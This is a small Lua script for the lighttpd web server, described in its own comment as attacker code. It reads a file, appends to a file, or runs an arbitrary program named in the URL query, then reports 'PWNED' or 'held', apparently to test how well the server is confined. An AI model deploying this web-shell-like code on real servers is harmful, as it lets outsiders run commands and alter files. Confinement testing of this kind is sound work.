-- Code of an attacker inside lighttpd: "?read:FILE", "?write:FILE" or "?run:PROGRAM"; answers PWNED when that worked.
local what, with = string.match(lighty.env["uri.query"] or "", "^(%a+):(.*)$")
local done = false
if what == "read" then
  local file = io.open(with)
  done = file ~= nil and file:read(1) ~= nil
elseif what == "write" then
  local file = io.open(with, "a")
  done = file ~= nil and file:write("#\n") ~= nil and file:close() ~= nil
elseif what == "run" then
  local pipe = io.popen(with)
  done = pipe ~= nil and pipe:read(1) ~= nil
end
lighty.content = { done and "PWNED\n" or "held\n" }
return 200
